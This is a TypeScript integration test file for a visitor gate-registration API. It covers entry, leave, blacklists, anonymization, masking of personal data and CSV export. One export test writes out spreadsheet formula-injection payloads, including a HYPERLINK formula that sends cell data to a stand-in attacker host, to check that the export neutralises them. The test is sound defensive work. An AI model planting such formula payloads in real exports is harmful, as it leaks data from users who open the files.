import { and, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, expectEvery, type TestContext, type TestUser } from '../../../test/helper';
import { emails } from '../system/system.tables';
import { blacklistEntries, gateMovements } from '../site/site.tables';
import { enter, givenVisitSite, visitor, type VisitSite } from './visit.fixtures';
import { visitCompanions, visits } from './visit.tables';

let ctx: TestContext;
let site: VisitSite;
let otherSite: VisitSite;
let reception: TestUser;
let viewer: TestUser;
let kiosk: TestUser;
let visitAdmin: TestUser;

beforeAll(async () => {
  ctx = await createTestContext();
  site = await givenVisitSite(ctx, ctx.siteA);
  otherSite = await givenVisitSite(ctx, ctx.siteB);
  reception = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'] });
  viewer = await ctx.givenUser({ roles: ['VISIT_VIEW'] });
  kiosk = await ctx.givenUser({ roles: ['VISIT_KIOSK'] });
  visitAdmin = await ctx.givenUser({ roles: ['VISIT_ADMIN', 'VIEW_PERSONAL_INFO'] });
});
afterAll(() => ctx?.close());

const movementsOf = (gateId: number) =>
  ctx.db.select().from(gateMovements).where(eq(gateMovements.gateId, gateId));

describe('entry (Zapsat vstup)', () => {
  it('records an IN movement in the area with companions, equipment and a gate passage', async () => {
    const before = (await movementsOf(site.backGate)).length;
    const response = await enter(
      ctx,
      reception,
      visitor(site, {
        gate: site.backGate,
        vehiclePlate: '1ab 2345',
        companions: [{ name: 'Petr Malý', document: 'OP 123' }],
        equipment: [{ object: 'Notebook', serialNumber: 'SN-1' }],
      }),
    );
    expect(response.statusCode).toBe(201);
    const record = response.json();
    expect(record).toMatchObject({
      direction: 'IN',
      inArea: true,
      departed: false,
      vehiclePlate: '1AB 2345',
      gate: { id: site.backGate, label: 'Back gate' },
      documentType: { id: site.idCard, label: 'ID card' },
      blacklistInternalPerson: 'OK',
      blacklistInternalVehicle: 'OK',
      // No government register is configured in this app (visit.blacklist.test.ts has the providers).
      blacklistGovernmentPerson: 'NOT_CHECKED',
      blacklistGovernmentVehicle: 'NOT_CHECKED',
    });
    expect(record.companions).toEqual([{ id: expect.any(Number), name: 'Petr Malý', document: 'OP 123' }]);
    expect(record.equipment).toEqual([{ id: expect.any(Number), object: 'Notebook', serialNumber: 'SN-1' }]);
    const movements = await movementsOf(site.backGate);
    expect(movements.length).toBe(before + 1);
    expect(movements.at(-1)).toMatchObject({ direction: 'IN', siteId: ctx.siteA });

    const companions = await ctx.call(reception, 'GET', `/api/visit/accompaniment?visit=${record.id}`);
    expect(companions.json()).toMatchObject([{ name: 'Petr Malý', visit: { id: record.id } }]);
    const equipment = await ctx.call(reception, 'GET', `/api/visit/equipment?visit=${record.id}`);
    expect(equipment.json()).toMatchObject([{ object: 'Notebook', serialNumber: 'SN-1' }]);
  });

  it('requires the visitor names, the purpose and the gate', async () => {
    const response = await enter(ctx, reception, {
      purpose: site.delivery,
      gate: site.gate,
      lastName: 'Only',
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().details).toEqual([{ path: 'firstName', message: 'validation.required' }]);
    const missing = await enter(ctx, reception, { firstName: 'A', lastName: 'B' });
    expect(missing.statusCode).toBe(400);
    expect(
      missing
        .json()
        .details.map((detail: { path: string }) => detail.path)
        .sort(),
    ).toEqual(['gate', 'purpose']);
  });

  it('refuses a purpose or gate of another site as if it did not exist', async () => {
    const response = await enter(ctx, reception, visitor(site, { purpose: otherSite.delivery }));
    expect(response.statusCode).toBe(400);
    expect(response.json().details).toEqual([{ path: 'purpose', message: 'validation.ref' }]);
  });

  it('warns with 409 ALREADY_IN_AREA when the person is in the area, and continues with force', async () => {
    const person = visitor(site);
    expect((await enter(ctx, reception, person)).statusCode).toBe(201);
    const again = await enter(ctx, reception, { ...person, firstName: 'JANA', documentNumber: null });
    expect(again.statusCode).toBe(409);
    expect(again.headers['x-error-code']).toBe('ALREADY_IN_AREA');
    expect(again.json().details).toContainEqual({ path: 'inArea', message: 'ALREADY_IN_AREA' });
    const otherDocument = await enter(ctx, reception, { ...person, documentNumber: 'ZZ999' });
    expect(otherDocument.statusCode).toBe(201);
    const forced = await enter(ctx, reception, { ...person, force: true });
    expect(forced.statusCode).toBe(201);
  });

  it("gives 'Card does not exist' for an unknown card and takes a valid one", async () => {
    const unknown = await enter(ctx, reception, visitor(site, { tag: 'NO-SUCH-CARD' }));
    expect(unknown.statusCode).toBe(400);
    expect(unknown.headers['x-error-code']).toBe('CARD_NOT_FOUND');
    expect(
      (await ctx.call(reception, 'GET', '/api/visit/card/code/NO-SUCH-CARD')).headers['x-error-code'],
    ).toBe('CARD_NOT_FOUND');
    const byCode = await ctx.call(reception, 'GET', `/api/visit/card/code/${site.card.code}`);
    expect(byCode.json()).toMatchObject({ id: site.card.id, code: site.card.code });
    const otherSiteCard = await ctx.call(reception, 'GET', `/api/visit/card/code/${otherSite.card.code}`);
    expect(otherSiteCard.headers['x-error-code']).toBe('CARD_NOT_FOUND');

    const withCard = await enter(ctx, reception, visitor(site, { tag: site.card.code }));
    expect(withCard.statusCode).toBe(201);
    expect(withCard.json().tag).toBe(site.card.code);
    const cardInUse = await enter(ctx, reception, visitor(site, { tag: site.card.code }));
    expect(cardInUse.statusCode).toBe(400);
    expect(cardInUse.json().details).toEqual([{ path: 'tag', message: 'validation.cardInUse' }]);
    await ctx.call(reception, 'POST', `/api/visit/${withCard.json().id}/leave`, { gate: site.gate });
  });

  it('sends the purpose notification e-mails through the outbox', async () => {
    const response = await enter(
      ctx,
      reception,
      visitor(site, { purpose: site.meeting, lastName: 'Mailová' }),
    );
    expect(response.statusCode).toBe(201);
    const queued = await ctx.db.select().from(emails).where(eq(emails.siteId, ctx.siteA));
    const mine = queued.filter((email) => email.subject.includes('Mailová'));
    expect(mine.map((email) => email.recipient).sort()).toEqual([
      'boss@example.com',
      'reception@example.com',
    ]);
    expect(mine[0].body).toContain('Main gate');
    // The time in the site's zone as the UI shows it, not ISO UTC (advice.routes.test.ts checks the value).
    expect(mine[0].body).toMatch(/čas: \d\d\.\d\d\.\d{4} \d\d:\d\d:\d\d/);
    expect(mine[0].body).not.toMatch(/\d{4}-\d\d-\d\dT/);
    expect(mine[0].sent).toBeNull();
  });
});

describe('blacklists at entry', () => {
  it('warns about an internal blacklist hit, stores the markers when forced', async () => {
    await ctx.db.insert(blacklistEntries).values([
      { siteId: ctx.siteA, category: 'PERSON', reason: 'Theft', firstName: 'Karel', lastName: 'Zakázaný' },
      { siteId: ctx.siteA, category: 'VEHICLE', reason: 'Damage', licencePlate: '9Z99999' },
    ]);
    const person = visitor(site, { firstName: 'karel', lastName: 'ZAKÁZANÝ', vehiclePlate: '9Z9 9999' });
    const warned = await enter(ctx, reception, person);
    expect(warned.statusCode).toBe(409);
    expect(warned.headers['x-error-code']).toBe('BLACKLIST_HIT');
    expect(warned.json().details).toEqual([
      { path: 'blacklistInternalPerson', message: 'BLACKLIST_HIT' },
      { path: 'blacklistInternalVehicle', message: 'BLACKLIST_HIT' },
    ]);
    const forced = await enter(ctx, reception, { ...person, force: true });
    expect(forced.statusCode).toBe(201);
    expect(forced.json()).toMatchObject({
      blacklistInternalPerson: 'HIT',
      blacklistInternalVehicle: 'HIT',
      blacklistGovernmentPerson: 'NOT_CHECKED',
      blacklistGovernmentVehicle: 'NOT_CHECKED',
    });
  });

  it('marks the government checks NOT_CHECKED without a configured register (no simulator by default), with no warning', async () => {
    // The simulator would take a document or plate beginning with X for a hit.
    const response = await enter(
      ctx,
      reception,
      visitor(site, { documentNumber: 'X1234567', vehiclePlate: 'X1 0000' }),
    );
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({
      blacklistGovernmentPerson: 'NOT_CHECKED',
      blacklistGovernmentVehicle: 'NOT_CHECKED',
      blacklistInternalPerson: 'OK',
      blacklistInternalVehicle: 'OK',
    });
  });

  it('leaves the vehicle markers empty without a plate', async () => {
    const response = await enter(ctx, reception, visitor(site));
    expect(response.json()).toMatchObject({
      blacklistInternalVehicle: null,
      blacklistGovernmentVehicle: null,
    });
  });
});

describe('leave, untraced departure and write-off', () => {
  it('records a leave (Zapsat odchod): an OUT row, the entry departed and out of the area', async () => {
    const entry = (await enter(ctx, reception, visitor(site))).json();
    const leave = await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.backGate });
    expect(leave.statusCode).toBe(201);
    expect(leave.json()).toMatchObject({
      direction: 'OUT',
      inArea: false,
      lastName: entry.lastName,
      gate: { id: site.backGate },
    });
    const after = (await ctx.call(reception, 'GET', `/api/visit/${entry.id}`)).json();
    expect(after).toMatchObject({ inArea: false, departed: true, version: entry.version + 1 });
    expect(after.departureTime).not.toBeNull();
    const movements = await movementsOf(site.backGate);
    expect(movements.at(-1)).toMatchObject({ direction: 'OUT' });

    const twice = await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.gate });
    expect(twice.statusCode).toBe(409);
    expect(twice.headers['x-error-code']).toBe('NOT_IN_AREA');
  });

  it('records an untraced departure (Zapsat neevidovaný odchod) with a gate passage', async () => {
    const before = (await movementsOf(site.gate)).length;
    const response = await ctx.call(reception, 'POST', '/api/visit/departure', visitor(site));
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({ direction: 'OUT', inArea: false, departed: true });
    expect((await movementsOf(site.gate)).length).toBe(before + 1);
  });

  it('writes off (Odepsat bez odchodu) without a departure or gate passage', async () => {
    const entry = (await enter(ctx, reception, visitor(site))).json();
    const before = (await movementsOf(site.gate)).length;
    const response = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id, note: 'Gone' });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({ inArea: false, departed: false, note: 'Gone' });
    expect((await movementsOf(site.gate)).length).toBe(before);
    const again = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id });
    expect(again.headers['x-error-code']).toBe('NOT_IN_AREA');
  });

  it('refuses actions on another site’s visit as not found', async () => {
    const other = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [ctx.siteB] });
    const entry = (await enter(ctx, other, visitor(otherSite))).json();
    expect((await ctx.call(reception, 'GET', `/api/visit/${entry.id}`)).statusCode).toBe(404);
    const leave = await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.gate });
    expect(leave.statusCode).toBe(404);
    expect((await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id })).statusCode).toBe(404);
    const leaveByOtherGate = await ctx.call(other, 'POST', `/api/visit/${entry.id}/leave`, {
      gate: site.gate,
    });
    expect(leaveByOtherGate.statusCode).toBe(400);
  });
});

describe('anonymization', () => {
  it('removes personal data of a visit whose purpose anonymizes, at departure', async () => {
    const entry = (
      await enter(
        ctx,
        reception,
        visitor(site, { purpose: site.anonymous, vehiclePlate: '2B2 2222', companions: [{ name: 'Eva' }] }),
      )
    ).json();
    expect(entry.anonymized).toBe(false);
    expect(entry.lastName).toMatch(/^Nováková/);
    const leave = await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.gate });
    const rows = await ctx.db
      .select()
      .from(visits)
      .where(and(eq(visits.siteId, ctx.siteA), eq(visits.anonymized, true)));
    const ids = rows.map((row) => row.id);
    expect(ids).toEqual(expect.arrayContaining([entry.id, leave.json().id]));
    for (const row of rows.filter((r) => r.id === entry.id || r.id === leave.json().id)) {
      expect(row).toMatchObject({
        firstName: null,
        lastName: null,
        documentNumber: null,
        documentTypeId: null,
        vehiclePlate: null,
        company: 'ACME s.r.o.',
      });
    }
    expect(await ctx.db.select().from(visitCompanions).where(eq(visitCompanions.visitId, entry.id))).toEqual(
      [],
    );
  });

  it('anonymizes an untraced departure and a write-off at once', async () => {
    const departure = await ctx.call(
      reception,
      'POST',
      '/api/visit/departure',
      visitor(site, { purpose: site.anonymous }),
    );
    expect(departure.json()).toMatchObject({ anonymized: true, lastName: null });
    const entry = (await enter(ctx, reception, visitor(site, { purpose: site.anonymous }))).json();
    const writeOff = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id });
    expect(writeOff.json()).toMatchObject({ anonymized: true, firstName: null });
  });

  it('keeps personal data of other purposes after departure', async () => {
    const entry = (await enter(ctx, reception, visitor(site))).json();
    await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.gate });
    expect((await ctx.call(reception, 'GET', `/api/visit/${entry.id}`)).json()).toMatchObject({
      anonymized: false,
      lastName: entry.lastName,
    });
  });
});

describe('roles, modules and personal data', () => {
  it('masks personal fields for callers without VIEW_PERSONAL_INFO and refuses personal filters', async () => {
    const entry = (
      await enter(
        ctx,
        reception,
        visitor(site, { vehiclePlate: '3C3 3333', companions: [{ name: 'Ota', document: 'P1' }] }),
      )
    ).json();
    const seen = (await ctx.call(viewer, 'GET', `/api/visit/${entry.id}`)).json();
    expect(seen).toMatchObject({
      firstName: '***',
      lastName: '***',
      documentNumber: '***',
      documentType: { label: '***' },
      vehiclePlate: '***',
      company: 'ACME s.r.o.',
      companions: [{ name: '***', document: '***' }],
    });
    const list = (await ctx.call(viewer, 'GET', '/api/visit?size=100')).json();
    expectEvery(
      list as Array<{ lastName: string | null }>,
      (row) => row.lastName === '***' || row.lastName === null,
    );
    const byName = await ctx.call(viewer, 'GET', '/api/visit?lastName=Nov');
    expect(byName.statusCode).toBe(403);
    expect(
      (await ctx.call(viewer, 'GET', `/api/visit/accompaniment?visit=${entry.id}`)).json(),
    ).toMatchObject([{ name: '***' }]);
    expect((await ctx.call(visitAdmin, 'GET', `/api/visit/${entry.id}`)).json().lastName).toBe(
      entry.lastName,
    );
  });

  it('refuses a personal-data change by a writer who sees the data only masked', async () => {
    const guardWithoutPersonal = await ctx.givenUser({ roles: ['VISIT_USER'] });
    const entry = (await enter(ctx, reception, visitor(site))).json();
    const masked = (await ctx.call(guardWithoutPersonal, 'GET', `/api/visit/${entry.id}`)).json();
    const overwrite = await ctx.call(guardWithoutPersonal, 'PUT', `/api/visit/${entry.id}`, {
      version: masked.version,
      lastName: masked.lastName,
      note: 'Parkuje u brány 2',
    });
    expect(overwrite.statusCode).toBe(403);
    const noteOnly = await ctx.call(guardWithoutPersonal, 'PUT', `/api/visit/${entry.id}`, {
      version: masked.version,
      note: 'Parkuje u brány 2',
    });
    expect(noteOnly.statusCode).toBe(200);
    const stored = (await ctx.call(reception, 'GET', `/api/visit/${entry.id}`)).json();
    expect(stored).toMatchObject({ lastName: entry.lastName, note: 'Parkuje u brány 2' });
  });

  it('lets the viewer read but not write, the kiosk only the overview', async () => {
    expect((await enter(ctx, viewer, visitor(site))).statusCode).toBe(403);
    expect((await ctx.call(viewer, 'GET', '/api/visit')).statusCode).toBe(200);
    expect((await ctx.call(kiosk, 'GET', '/api/visit')).statusCode).toBe(403);
    const overview = await ctx.call(kiosk, 'GET', '/api/visit/overview?size=100');
    expect(overview.statusCode).toBe(200);
    expectEvery(
      overview.json() as Array<{ inArea: boolean; lastName: string }>,
      (row) => row.inArea && row.lastName === '***',
    );
    expect((await ctx.call(kiosk, 'POST', '/api/visit/writeoff', { id: 1 })).statusCode).toBe(403);
  });

  it('manages purposes, visited persons and cards as VISIT_ADMIN only', async () => {
    const purpose = await ctx.call(visitAdmin, 'POST', '/api/visit/purpose', {
      name: 'Audit',
      notificationEmails: 'a@example.com, b@example.com',
    });
    expect(purpose.statusCode).toBe(201);
    expect(purpose.json()).toMatchObject({ anonymize: false, valid: true });
    const badEmails = await ctx.call(visitAdmin, 'POST', '/api/visit/purpose', {
      name: 'Bad',
      notificationEmails: 'a@example.com, nonsense',
    });
    expect(badEmails.json().details).toEqual([
      { path: 'notificationEmails', message: 'validation.emailList' },
    ]);
    expect((await ctx.call(reception, 'POST', '/api/visit/purpose', { name: 'X' })).statusCode).toBe(403);
    const duplicate = await ctx.call(visitAdmin, 'POST', '/api/visit/card', { code: site.card.code });
    expect(duplicate.headers['x-error-code']).toBe('DATA_INTEGRITY');
    const visited = await ctx.call(visitAdmin, 'POST', '/api/visit/visited', {
      firstName: 'Pavel',
      lastName: 'Ředitel',
      company: 'Strážce a.s.',
    });
    expect(visited.statusCode).toBe(201);
    const entry = await enter(ctx, reception, visitor(site, { visited: visited.json().id }));
    expect(entry.json()).toMatchObject({
      visited: { id: visited.json().id },
      visitedFirstName: 'Pavel',
      visitedLastName: 'Ředitel',
      visitedCompany: 'Strážce a.s.',
    });
  });

  it('refuses a site without the module', async () => {
    const siteWithout = await ctx.createSite('No visits', ['MOD_PATROL']);
    const user = await ctx.givenUser({ roles: ['VISIT_ADMIN'], sites: [siteWithout] });
    const response = await ctx.call(user, 'GET', '/api/visit');
    expect(response.statusCode).toBe(403);
    expect(response.headers['x-error-code']).toBe('MODULE_DISABLED');
  });
});

describe('lists, autocomplete and export', () => {
  let listSite: VisitSite;
  let guard: TestUser;

  beforeAll(async () => {
    const siteId = await ctx.createSite('Lists');
    listSite = await givenVisitSite(ctx, siteId);
    guard = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [siteId] });
    const times = ['2024-01-01T08:00:00.000Z', '2024-01-02T08:00:00.000Z', '2024-01-03T08:00:00.000Z'];
    await enter(
      ctx,
      guard,
      visitor(listSite, {
        firstName: 'Adam',
        lastName: 'Dvořák',
        movementTime: times[0],
        vehiclePlate: '1A1 1111',
      }),
    );
    const second = await enter(
      ctx,
      guard,
      visitor(listSite, {
        firstName: 'Bára',
        lastName: 'Černá',
        movementTime: times[1],
        purpose: listSite.meeting,
      }),
    );
    await enter(
      ctx,
      guard,
      visitor(listSite, {
        firstName: 'Adam',
        lastName: 'Dvořák',
        movementTime: times[2],
        gate: listSite.backGate,
        force: true,
      }),
    );
    await ctx.call(guard, 'POST', `/api/visit/${second.json().id}/leave`, {
      gate: listSite.gate,
      movementTime: '2024-01-02T10:00:00.000Z',
    });
  });

  const names = (response: { json(): Array<{ lastName: string; direction: string }> }) =>
    response.json().map((row) => `${row.lastName}:${row.direction}`);

  it('sorts by movement time descending by default, with the total', async () => {
    const response = await ctx.call(guard, 'GET', '/api/visit');
    expect(names(response)).toEqual(['Dvořák:IN', 'Černá:OUT', 'Černá:IN', 'Dvořák:IN']);
    expect(response.headers['x-total-count']).toBe('4');
  });

  it('filters by time range, direction, in area, purpose, gate, names and plate', async () => {
    const get = (query: string) => ctx.call(guard, 'GET', `/api/visit?${query}`);
    expect(
      names(await get('movementTimeFrom=2024-01-02T00:00:00.000Z&movementTimeTo=2024-01-02T23:59:59.000Z')),
    ).toEqual(['Černá:OUT', 'Černá:IN']);
    expect(names(await get('direction=OUT'))).toEqual(['Černá:OUT']);
    expect(names(await get('inArea=true'))).toEqual(['Dvořák:IN', 'Dvořák:IN']);
    expect(names(await get(`purpose=${listSite.meeting}`))).toEqual(['Černá:OUT', 'Černá:IN']);
    expect(names(await get(`gate=${listSite.backGate}`))).toEqual(['Dvořák:IN']);
    expect(names(await get('lastName=dvoř'))).toEqual(['Dvořák:IN', 'Dvořák:IN']);
    expect(names(await get('firstName=bár'))).toEqual(['Černá:OUT', 'Černá:IN']);
    expect(names(await get('vehiclePlate=1A1'))).toEqual(['Dvořák:IN']);
    expect(names(await get('sort=movementTime,asc&size=10'))).toEqual([
      'Dvořák:IN',
      'Černá:IN',
      'Černá:OUT',
      'Dvořák:IN',
    ]);
    expect((await get('overview=1')).statusCode).toBe(400);
  });

  it('lists who is in the area in the overview', async () => {
    const response = await ctx.call(guard, 'GET', '/api/visit/overview');
    expect(names(response)).toEqual(['Dvořák:IN', 'Dvořák:IN']);
    expect(response.headers['x-total-count']).toBe('2');
  });

  it('offers names to the autocomplete and the last visit of a name', async () => {
    const whisper = await ctx.call(guard, 'GET', '/api/visit/whisperer?name=dv');
    expect(whisper.json()).toEqual([{ firstName: 'Adam', lastName: 'Dvořák', company: 'ACME s.r.o.' }]);
    const last = await ctx.call(guard, 'GET', '/api/visit/lastbyname?firstName=adam&lastName=DVOŘÁK');
    expect(last.json()).toMatchObject({ lastName: 'Dvořák', movementTime: '2024-01-03T08:00:00.000Z' });
    const none = await ctx.call(guard, 'GET', '/api/visit/lastbyname?firstName=No&lastName=Body');
    expect(none.json()).toBeNull();
    expect((await ctx.call(viewer, 'GET', '/api/visit/whisperer?name=dv')).statusCode).toBe(403);
  });

  it('exports the filtered list as CSV', async () => {
    const response = await ctx.call(guard, 'GET', '/api/visit/export?direction=IN');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    const lines = response.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0].split(',').slice(0, 4)).toEqual(['id', 'movementTime', 'direction', 'inArea']);
    expect(lines).toHaveLength(4);
    expect(lines[1]).toContain('Dvořák');
    expect(lines[1]).toContain('Back gate');
  });

  it('exports visitor texts that look like formulas as text (a leading apostrophe), ids as numbers', async () => {
    const siteId = await ctx.createSite('CSV formulas');
    const csvSite = await givenVisitSite(ctx, siteId);
    const clerk = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [siteId] });
    const entry = await enter(
      ctx,
      clerk,
      visitor(csvSite, {
        firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        lastName: '+420 777 123 456',
        company: '@SUM(1+1)',
        note: '-2+3',
        parkingPlace: '=1+1',
      }),
    );
    expect(entry.statusCode).toBe(201);
    const response = await ctx.call(clerk, 'GET', '/api/visit/export');
    expect(response.statusCode).toBe(200);
    const [header, row] = response.body.replace(/^\uFEFF/, '').split('\r\n');
    const column = (name: string) => header.split(',').indexOf(name);
    expect(row.startsWith(`${entry.json().id},`)).toBe(true);
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    const cells = row.replace(/"[^"]*(?:""[^"]*)*"/g, 'QUOTED').split(',');
    expect(cells[column('lastName')]).toBe("'+420 777 123 456");
    expect(cells[column('company')]).toBe("'@SUM(1+1)");
    expect(cells[column('note')]).toBe("'-2+3");
    expect(cells[column('parkingPlace')]).toBe("'=1+1");
    // No cell of the export starts with a formula character.
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('updates the recorded details but not the movement', async () => {
    const [row] = (await ctx.call(guard, 'GET', '/api/visit?size=10')).json();
    const update = await ctx.call(guard, 'PUT', `/api/visit/${row.id}`, {
      version: row.version,
      note: 'Badge returned',
      equipment: [{ object: 'Camera' }],
    });
    expect(update.statusCode).toBe(200);
    expect(update.json()).toMatchObject({
      note: 'Badge returned',
      direction: 'IN',
      equipment: [{ object: 'Camera' }],
    });
    const stale = await ctx.call(guard, 'PUT', `/api/visit/${row.id}`, { version: row.version, note: 'x' });
    expect(stale.headers['x-error-code']).toBe('CONFLICT');
    const direction = await ctx.call(guard, 'PUT', `/api/visit/${row.id}`, {
      version: row.version + 1,
      direction: 'OUT',
    });
    expect(direction.statusCode).toBe(400);
  });
});

describe('totals over large lists', () => {
  it('counts exactly up to the limit and estimates beyond it, without changing the page', async () => {
    const siteId = await ctx.createSite('Large');
    const large = await givenVisitSite(ctx, siteId);
    const user = await ctx.givenUser({ roles: ['VISIT_VIEW'], sites: [siteId] });
    await ctx.db.execute(sql`
      insert into visit (site_id, movement_time, direction, purpose_id, gate_id, first_name, last_name)
      select ${siteId}, now() - g * interval '1 minute', 'OUT', ${large.delivery}, ${large.gate}, 'A', 'B' || g
      from generate_series(1, 1100) g`);
    await ctx.db.execute(sql`
      insert into visit (site_id, movement_time, direction, purpose_id, gate_id, first_name, last_name)
      select ${siteId}, now() - g * interval '1 minute', 'IN', ${large.meeting}, ${large.gate}, 'A', 'C' || g
      from generate_series(1, 30) g`);
    const all = await ctx.call(user, 'GET', '/api/visit?size=25');
    expect(all.json()).toHaveLength(25);
    expect(Number(all.headers['x-total-count'])).toBeGreaterThan(1000);
    const few = await ctx.call(user, 'GET', `/api/visit?purpose=${large.meeting}&size=10`);
    expect(few.headers['x-total-count']).toBe('30');
    expect(few.json()).toHaveLength(10);
  });

  it('keeps a total beyond the count limit (an estimate) for a while, an exact one until the next write', async () => {
    const siteId = await ctx.createSite('Huge');
    const huge = await givenVisitSite(ctx, siteId);
    const user = await ctx.givenUser({ roles: ['VISIT_VIEW'], sites: [siteId] });
    const insert = (count: number, direction: 'IN' | 'OUT') =>
      ctx.db.execute(sql`
        insert into visit (site_id, movement_time, direction, purpose_id, gate_id, first_name, last_name)
        select ${siteId}, now() - g * interval '1 minute', ${direction}, ${huge.delivery}, ${huge.gate}, 'A', 'B'
        from generate_series(1, ${count}::int) g`);
    await insert(1_500, 'OUT');
    await ctx.db.execute(sql`analyze visit`);
    const first = Number((await ctx.call(user, 'GET', '/api/visit?size=10')).headers['x-total-count']);
    expect(first).toBeGreaterThan(1_000);
    await insert(3_000, 'OUT');
    await ctx.db.execute(sql`analyze visit`);
    const again = Number((await ctx.call(user, 'GET', '/api/visit?size=10')).headers['x-total-count']);
    expect(again).toBe(first);
    // Other filter values are estimated on their own; a small total stays exact and current.
    const fresh = Number(
      (await ctx.call(user, 'GET', '/api/visit?size=10&direction=OUT')).headers['x-total-count'],
    );
    expect(fresh).toBeGreaterThan(first);
    const entries = () => ctx.call(user, 'GET', '/api/visit?size=10&direction=IN');
    expect((await entries()).headers['x-total-count']).toBe('0');
    // An exact total is kept until the next write call: rows written by hand count once one comes.
    await insert(3, 'IN');
    expect((await entries()).headers['x-total-count']).toBe('0');
    await ctx.sessionsChanged();
    expect((await entries()).headers['x-total-count']).toBe('3');
    // A visitor entered through the API counts at once, in the list and in the overview.
    const overview = () => ctx.call(user, 'GET', '/api/visit/overview?size=10');
    const inArea = Number((await overview()).headers['x-total-count']);
    const reception = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [siteId] });
    expect((await enter(ctx, reception, visitor(huge))).statusCode).toBe(201);
    expect((await entries()).headers['x-total-count']).toBe('4');
    expect(Number((await overview()).headers['x-total-count'])).toBe(inArea + 1);
  });
});
